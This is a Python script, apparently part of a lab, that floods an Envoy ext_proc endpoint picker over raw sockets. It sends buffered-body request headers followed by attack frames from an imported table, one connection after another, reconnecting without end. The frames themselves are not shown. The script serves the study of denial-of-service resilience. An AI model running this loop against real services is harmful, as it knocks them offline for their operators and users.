"""A process that sends one attack to a picker, on one connection after the other, until it is ended.

It reads and drops whatever comes back, and connects again when it is cut off.
"""

import selectors
import socket
import sys
from collections.abc import Iterator

from epp.extproc.protocol.base_pb2 import HeaderMap, HeaderValue
from epp.extproc.protocol.external_processor_pb2 import HttpHeaders, ProcessingRequest, ProtocolConfiguration
from epp.extproc.protocol.processing_mode_pb2 import ProcessingMode
from lab.attack.frames import ATTACKS

_READ_BYTES = 1 << 20
_CONNECT_S = 5.0


def request_headers() -> bytes:
    """Return the headers of a request whose body is to be sent buffered. The picker answers them at once."""
    names = {":method": "POST", ":path": "/v1/chat/completions", "content-type": "application/json"}
    headers = HeaderMap(headers=[HeaderValue(key=key, raw_value=value.encode()) for key, value in names.items()])
    mode = ProtocolConfiguration(request_body_mode=ProcessingMode.BUFFERED)
    return ProcessingRequest(request_headers=HttpHeaders(headers=headers), protocol_config=mode).SerializeToString()


def send(connection: socket.socket, steps: Iterator[bytes]) -> None:
    """Send the steps until the peer closes the connection."""
    connection.setblocking(False)
    unsent = memoryview(b"")
    with selectors.DefaultSelector() as selector:
        selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
        while True:
            ((_, events),) = selector.select()
            if events & selectors.EVENT_READ and not connection.recv(_READ_BYTES):
                return
            if events & selectors.EVENT_WRITE:
                unsent = unsent or memoryview(next(steps))
                unsent = unsent[connection.send(unsent) :]


def attack(name: str, host: str, port: int) -> None:
    """Attack without end."""
    message = request_headers()
    while True:
        try:
            with socket.create_connection((host, port), timeout=_CONNECT_S) as connection:
                send(connection, ATTACKS[name](message))
        except OSError:
            # The peer has reset the connection, or is too busy to accept one.
            continue


if __name__ == "__main__":
    _, name, address = sys.argv
    host, _, port = address.rpartition(":")
    attack(name, host, int(port))
